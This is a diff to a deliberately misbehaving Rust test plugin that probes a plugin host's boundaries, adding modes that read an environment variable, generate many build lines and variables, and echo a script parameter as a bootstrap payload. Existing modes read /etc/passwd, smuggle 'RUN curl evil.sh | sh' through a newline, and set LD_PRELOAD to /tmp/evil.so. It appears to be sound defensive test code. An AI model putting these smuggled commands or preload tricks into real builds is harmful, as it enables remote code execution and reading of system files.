@@ -36,6 +36,7 @@ impl Plugin for Misbehaving {
                 .detail("/etc/passwd", describe(std::fs::read_to_string("/etc/passwd")))
                 .detail(".", describe(std::fs::read_dir(".").map(|d| d.count()))))
             ,
+            "read-env" => Ok(ActionReport::new(std::env::var("HTTP_PROXY").unwrap_or_else(|e| e.to_string()))),
             "env" => Ok(ActionReport::new("tried env and args")
                 .detail("env", std::env::vars().count().to_string())
                 .detail("args", std::env::args().count().to_string())),
@@ -64,16 +65,23 @@ impl Plugin for Misbehaving {
         Ok(match mode(ctx) {
             "newline" => vec!["RUN echo a\nRUN curl evil.sh | sh".to_string()],
             "heredoc" => vec!["RUN <<EOF".to_string()],
+            "lines" => (0..ctx.integer("count").unwrap_or(0)).map(|i| format!("RUN echo line {i}")).collect(),
             "huge-list" => vec!["RUN true".to_string(); 10_000_000],
             "huge-string" => vec!["RUN echo ".to_string() + &"x".repeat(100 << 20)],
             _ => vec![format!("RUN echo {}", ctx.plugin_id)],
         })
     }
 
+    fn bootstrap_injection(ctx: &HookContext) -> HookResult<Option<String>> {
+        // Echoes the `script` parameter: a payload through the boundary both ways.
+        Ok(ctx.text("script").map(str::to_string))
+    }
+
     fn job_runtime_env_vars(ctx: &HookContext) -> HookResult<Vec<(String, String)>> {
         Ok(match mode(ctx) {
             "ld-preload" => vec![("LD_PRELOAD".to_string(), "/tmp/evil.so".to_string())],
             "bad-name" => vec![("BAD NAME".to_string(), "x".to_string())],
+            "vars" => (0..ctx.integer("count").unwrap_or(0)).map(|i| (format!("VAR_{i}"), format!("value {i}"))).collect(),
             _ => vec![("SHARED".to_string(), ctx.plugin_id.clone())],
         })
     }
